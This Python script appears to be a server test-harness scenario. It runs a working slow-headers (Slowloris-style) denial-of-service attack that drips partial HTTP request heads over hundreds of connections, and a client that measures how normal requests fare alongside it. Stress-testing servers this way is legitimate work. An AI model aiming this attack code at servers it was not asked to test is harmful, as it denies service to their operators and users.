"""A slow-heads attack and a normal client beside it: what the normal
client sees. Used by the harness's `slow-heads` scenario.

    python slow_heads.py HOST PORT ATTACKERS SECONDS [--drip S] [--path P]

ATTACKERS connections each send a request head one byte every `--drip`
seconds (5), never finishing it; a connection the server closes is opened
again at once, so the attack keeps its size. Once they are all open, a
normal client makes one request after another for SECONDS, each on a new
connection with a 10 s timeout (a client that waits for a connection slot
is the one the attack hurts), 10 ms apart. One JSON line on stdout:

    {"requests": n, "failures": n, "p50_ms": x, "p99_ms": x, "max_ms": x,
     "first_failure": "...", "attack": {"opened": n, "reopened": n,
     "open_at_start": n}}

`reopened` counts attack connections the server closed (made room, or
header timeout) and the attacker opened again. Everything is bounded: the
attack gets 30 s to open its connections, and the script exits after
SECONDS + 60 s whatever happens.
"""

import argparse
import asyncio
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time

CONNECT_AT_ONCE = 256  # attack connections in the middle of a handshake at a time
OPEN_DEADLINE = 30.0  # seconds for the attack to open its connections
TIMEOUT = 10.0  # the normal client's timeout per request


async def attack(host, port, count, drip, head, stats, opened_all):
    gate = asyncio.Semaphore(CONNECT_AT_ONCE)

    async def one():
        first = True
        while True:
            try:
                async with gate:
                    reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            if first:
                stats["opened"] += 1
                if stats["opened"] == count:
                    opened_all.set()
                first = False
            else:
                stats["reopened"] += 1
            try:
                for i in range(len(head)):
                    writer.write(head[i:i + 1])
                    # The read ends when the server closes the connection.
                    try:
                        await asyncio.wait_for(reader.read(4096), drip)
                        break
                    except asyncio.TimeoutError:
                        pass
            except OSError:
                pass
            finally:
                writer.close()

    await asyncio.gather(*(one() for _ in range(count)))


def attacker_main(host, port, count, drip, path):
    """Runs the attack until killed; reports its counts on SIGTERM."""
    stats = {"opened": 0, "reopened": 0}
    head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Padding: {'a' * 200}\r\n\r\n".encode()

    async def run():
        loop = asyncio.get_running_loop()
        opened_all = asyncio.Event()
        done = asyncio.Event()
        loop.add_signal_handler(signal.SIGTERM, done.set)
        task = asyncio.ensure_future(attack(host, port, count, drip, head, stats, opened_all))
        try:
            await asyncio.wait_for(opened_all.wait(), OPEN_DEADLINE)
        except asyncio.TimeoutError:
            pass
        sys.stdout.write(json.dumps({"open_at_start": stats["opened"]}) + "\n")
        sys.stdout.flush()
        await done.wait()
        task.cancel()
        sys.stdout.write(json.dumps(stats) + "\n")
        sys.stdout.flush()

    asyncio.run(run())


def one_request(host, port, request):
    with socket.create_connection((host, port), timeout=TIMEOUT) as s:
        s.settimeout(TIMEOUT)
        s.sendall(request)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(65536)
            if not chunk:
                raise ConnectionError(f"closed after {len(data)} bytes")
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        status = head.split(b" ", 2)[1]
        if status != b"200":
            raise ConnectionError(f"status {status.decode(errors='replace')}")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        while len(body) < length:
            chunk = s.recv(65536)
            if not chunk:
                raise ConnectionError("body cut short")
            body += chunk


def percentile(sorted_values, q):
    if not sorted_values:
        return None
    return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("attackers", type=int)
    p.add_argument("seconds", type=float)
    p.add_argument("--drip", type=float, default=5.0)
    p.add_argument("--path", default="/hello")
    p.add_argument("--role", default="client", choices=["client", "attacker"])
    args = p.parse_args()
    if args.role == "attacker":
        attacker_main(args.host, args.port, args.attackers, args.drip, args.path)
        return

    # The whole run is bounded, whatever the server does.
    threading.Timer(args.seconds + 60, lambda: os._exit(3)).start()
    attacker = subprocess.Popen(
        [sys.executable, __file__, args.host, str(args.port), str(args.attackers),
         str(args.seconds), "--drip", str(args.drip), "--path", args.path,
         "--role", "attacker"],
        stdout=subprocess.PIPE, text=True)
    started = json.loads(attacker.stdout.readline() or "{}")
    request = f"GET {args.path} HTTP/1.1\r\nHost: {args.host}\r\nConnection: close\r\n\r\n".encode()
    took, failures, first_failure = [], 0, None
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            one_request(args.host, args.port, request)
            took.append(time.monotonic() - t0)
        except (OSError, ValueError, IndexError) as e:
            failures += 1
            first_failure = first_failure or f"{type(e).__name__}: {e}"
        time.sleep(0.01)
    attacker.send_signal(signal.SIGTERM)
    try:
        stats = json.loads(attacker.stdout.readline() or "{}")
        attacker.wait(timeout=10)
    except (ValueError, subprocess.TimeoutExpired):
        stats = {}
        attacker.kill()
    stats["open_at_start"] = started.get("open_at_start")
    took.sort()
    ms = lambda v: None if v is None else round(v * 1000, 2)
    print(json.dumps({
        "requests": len(took) + failures,
        "failures": failures,
        "p50_ms": ms(percentile(took, 0.50)),
        "p99_ms": ms(percentile(took, 0.99)),
        "max_ms": ms(took[-1] if took else None),
        "first_failure": first_failure,
        "attack": stats,
    }))
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
